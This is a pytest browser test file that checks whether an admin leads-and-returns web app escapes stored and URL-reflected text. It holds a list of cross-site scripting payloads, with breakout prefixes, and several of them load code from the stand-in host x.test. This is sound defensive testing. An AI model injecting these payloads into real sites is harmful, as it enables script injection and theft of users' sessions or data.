"""Texts that would do harm as HTML are shown as texts, wherever they come from."""

from itertools import product

import pytest

from tests.browser.stock import VECTORS
from tests.browser.test_every_page import HARM

WORDS = """document.body.textContent + "\\n" + [...document.querySelectorAll("input")]
    .map(({value}) => value).join("\\n")"""
ECHOES = (
    "/api/2/track.asmx?op={}",
    "/admin/{}",
    "/admin/leads?lead={}",
    "/admin/buyers/all?q={}",
    "/admin/buyers/contracts?q={}",
    "/admin/returns/queue?buyer={}",
    "/admin/reports/lead-status?drill={}",
    "/admin/reports/leads-by-buyer?buyer_id={}",
    "/admin/login?next={}",
)

# How a text gets out of where it stands, and what it would do then.
WAYS_OUT = (
    "",
    '">',
    "'>",
    "</title>",
    "</textarea>",
    "</select>",
    "-->",
    "]]>",
    "`>",
    "\u2028",
)
DEEDS = (
    "<script>alert({n})</script>",
    "<script src=//x.test/{n}></script>",
    "<img src=x onerror=alert({n})>",
    "<svg/onload=alert({n})>",
    "<svg><script>alert&lpar;{n})</script>",
    "<body onload=alert({n})>",
    "<iframe srcdoc='<script>alert({n})</script>'>",
    "<iframe src=javascript:alert({n})>",
    "<input autofocus onfocus=alert({n})>",
    "<details open ontoggle=alert({n})>",
    "<video><source onerror=alert({n})>",
    "<audio src onerror=alert({n})>",
    "<marquee onstart=alert({n})>",
    "<object data=javascript:alert({n})>",
    "<embed src=//x.test/{n}>",
    "<a href=javascript:alert({n})>a</a>",
    "<form action=//x.test/{n}><button>",
    "<button formaction=javascript:alert({n})>",
    "<base href=//x.test/{n}/>",
    "<link rel=stylesheet href=//x.test/{n}>",
    "<meta http-equiv=refresh content=0;url=//x.test/{n}>",
    "<style>@import'//x.test/{n}';</style>",
    "<math><mtext></p><img src=x onerror=alert({n})>",
    "<template><img src=x onerror=alert({n})>",
    "<p style=background:url(//x.test/{n})>",
    "<noscript><img src=x onerror=alert({n})>",
    "\x3cscript>alert({n})\\u003c/script>",
)


@pytest.fixture
def named_badly(server, db):
    """Return reasons that are called by each of them."""
    pairs = enumerate(product(WAYS_OUT, DEEDS), start=1000)
    names = [way + deed.format(n=number) for number, (way, deed) in pairs]
    query = "INSERT INTO return_reasons (return_reason_name) VALUES (%s)"
    db.cursor().executemany(query, [[name] for name in names])
    yield names
    query = "DELETE FROM return_reasons WHERE return_reason_name = ANY(%s)"
    db.execute(query, [names])


def test_270_texts_that_attack(visit, named_badly):
    """Nothing that the browser would tell of, and nothing that it would have made."""
    tab = visit("admin")
    assert tab.goto("/admin/setup/reasons/return").status == 200
    assert tab.evaluate(HARM) == 0
    shown = tab.evaluate(WORDS)
    assert len(named_badly) == 270
    assert [name for name in named_badly if name not in shown] == []


def test_stored_texts(visit, stock):
    """Beside this, the sweep of all pages meets the same texts."""
    tab, seen = visit("admin"), ""
    for address in stock.addresses():
        assert tab.goto(address).status == 200
        assert tab.evaluate(HARM) == 0, address
        seen += tab.evaluate(WORDS)
    assert [where for where, text in stock.texts.items() if text not in seen] == []


@pytest.mark.parametrize("page", ECHOES)
def test_texts_of_an_address(visit, witness, page):
    witness.meant |= {400, 404}
    tab = visit("admin")
    for vector in VECTORS[:3]:
        tab.goto(
            page.format(vector.format(n=1).replace("#", "%23").replace("&", "%26"))
        )
        assert tab.evaluate(HARM) == 0
